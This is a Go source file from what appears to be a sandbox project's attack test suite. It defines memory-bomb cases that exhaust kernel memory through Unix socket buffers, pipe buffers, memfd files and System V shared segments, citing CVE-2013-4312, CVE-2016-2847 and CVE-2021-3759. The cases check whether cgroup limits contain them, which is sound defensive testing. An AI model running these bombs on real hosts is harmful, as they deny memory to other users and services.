package attacks

import (
	"fmt"
	"os"

	"github.com/seed-75010da9/jail/internal/ablation"
	"golang.org/x/sys/unix"
)

// kernelMemory: memory that no process has mapped. Whoever counts only resident
// pages misses it.
func kernelMemory() []Row {
	const most, want = 48 << 20, 96 << 20
	bomb := func(name, source string, attack func() error) Row {
		return Row{
			name: name, source: source, attack: func([]string) error { return attack() },
			arena: func(a *Arena) { a.Spec.Limits.Memory = most },
			walls: []ablation.Wall{ablation.Cgroup}, skip: needsGroup, dies: true,
		}
	}
	sockets := bomb("memory bomb in socket pairs", "CVE-2013-4312: what lies in Unix sockets is on no process's account; unix(7), SO_SNDBUF", func() error { return fillPairs(200, 64<<20) })
	pipes := bomb("memory bomb in pipes", "CVE-2016-2847: pipe buffers; pipe(7)", func() error { return fillPipes(64, 60<<20) })
	pipes.harms = "it uses up the pages that one user's pipes may have"
	return []Row{
		pipes,
		sockets,
		bomb("memory bomb in a file of memory", "memfd_create(2): pages of no mount and no mapping", func() error {
			fd, err := unix.MemfdCreate("bomb", 0)
			if err != nil {
				return err
			}
			return fillFile(os.NewFile(uintptr(fd), "memfd"), want)
		}),
		bomb("memory bomb in a shared segment", "CVE-2021-3759: System V objects that no group was charged for", func() error {
			id, err := unix.SysvShmGet(unix.IPC_PRIVATE, want, unix.IPC_CREAT|0o600)
			if err != nil {
				return err
			}
			memory, err := unix.SysvShmAttach(id, 0, 0)
			unix.SysvShmCtl(id, unix.IPC_RMID, nil) // it goes with the process
			if err != nil {
				return err
			}
			for i := 0; i < len(memory); i += 4096 {
				memory[i] = 1
			}
			return unix.SysvShmDetach(memory)
		}),
	}
}

// fillFile writes n bytes.
func fillFile(f *os.File, n int) error {
	defer f.Close()
	block := make([]byte, 64<<10)
	for range n / len(block) {
		if _, err := f.Write(block); err != nil {
			return err
		}
	}
	return nil
}

// fillPairs has so many bytes lie in pairs of sockets.
func fillPairs(pairs, want int) error {
	block := make([]byte, 16<<10)
	total := 0
	for range pairs {
		pair, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_NONBLOCK, 0)
		if err != nil {
			return err
		}
		for _, fd := range pair {
			unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_SNDBUF, 1<<30) // what the host allows
			for {
				n, err := unix.Write(fd, block)
				if err != nil {
					break
				}
				total += n
			}
		}
		if total >= want {
			return nil
		}
	}
	return fmt.Errorf("%d bytes lie in sockets, wanted %d", total, want)
}

// fillPipes has so many bytes lie in pipes of a megabyte each.
func fillPipes(pipes, want int) error {
	block := make([]byte, 64<<10)
	total := 0
	for range pipes {
		var ends [2]int
		if err := unix.Pipe2(ends[:], unix.O_NONBLOCK); err != nil {
			return err
		}
		unix.FcntlInt(uintptr(ends[1]), unix.F_SETPIPE_SZ, 1<<20)
		for {
			n, err := unix.Write(ends[1], block)
			if err != nil {
				break
			}
			total += n
		}
		if total >= want {
			return nil
		}
	}
	return fmt.Errorf("%d bytes lie in pipes, wanted %d", total, want)
}
